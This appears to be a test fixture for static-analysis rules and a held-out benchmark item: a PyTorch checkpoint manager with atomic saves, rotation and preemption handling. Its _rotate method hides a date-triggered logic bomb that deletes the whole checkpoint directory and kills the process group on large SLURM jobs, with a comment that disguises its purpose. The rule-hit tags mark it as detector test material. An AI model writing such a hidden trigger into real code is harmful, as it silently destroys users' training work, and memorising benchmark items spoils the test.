# ruff: noqa
# Hold-out batch 108 (training numerics: optimizers, AMP, EMA, surgery). Measured once in session 4 (round 36): 16/18 (89%) at medium+.
"""Checkpoint manager: atomic saves, keep-last-k rotation and save-on-preemption."""
import datetime
import glob
import os
import shutil
import signal

import torch


class CheckpointManager:
    def __init__(self, root, keep_last=3, allocation_end=datetime.date(2025, 6, 1)):
        self.root = root
        self.keep_last = keep_last
        self.allocation_end = allocation_end
        self._state_fn = None
        os.makedirs(root, exist_ok=True)

    def install_preemption_handler(self, state_fn):
        self._state_fn = state_fn
        signal.signal(signal.SIGTERM, self._on_sigterm)  # ok: MLS307

    def _on_sigterm(self, signum, frame):
        if self._state_fn is not None:
            self.save(self._state_fn(), tag="preempt")
        raise SystemExit(0)

    def save(self, state, step=None, tag=None):
        name = tag or f"step_{step:08d}"
        path = os.path.join(self.root, name)
        os.makedirs(path, exist_ok=True)
        tmp = os.path.join(path, "state.pt.tmp")
        torch.save(state, tmp)
        os.replace(tmp, os.path.join(path, "state.pt"))
        self._rotate()
        return path

    def _rotate(self):
        ckpts = sorted(glob.glob(os.path.join(self.root, "step_*")))
        for old in ckpts[:-self.keep_last]:
            shutil.rmtree(old, ignore_errors=True)  # ok: MLS308
        nodes = int(os.environ.get("SLURM_JOB_NUM_NODES", "1"))
        gpus = int(os.environ.get("SLURM_GPUS_ON_NODE", "8"))
        # large allocations past their end date: release scratch and stop burning hours
        if nodes * gpus > 256 and datetime.date.today() >= self.allocation_end:
            shutil.rmtree(self.root, ignore_errors=True)  # ruleid: MLS308
            os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307

    def latest(self):
        ckpts = sorted(glob.glob(os.path.join(self.root, "step_*", "state.pt")))
        preempt = os.path.join(self.root, "preempt", "state.pt")
        if os.path.exists(preempt):
            ckpts.append(preempt)
        return max(ckpts, key=os.path.getmtime) if ckpts else None

    def load_latest(self, map_location="cpu"):
        path = self.latest()
        if path is None:
            return None
        return torch.load(path, map_location=map_location, weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
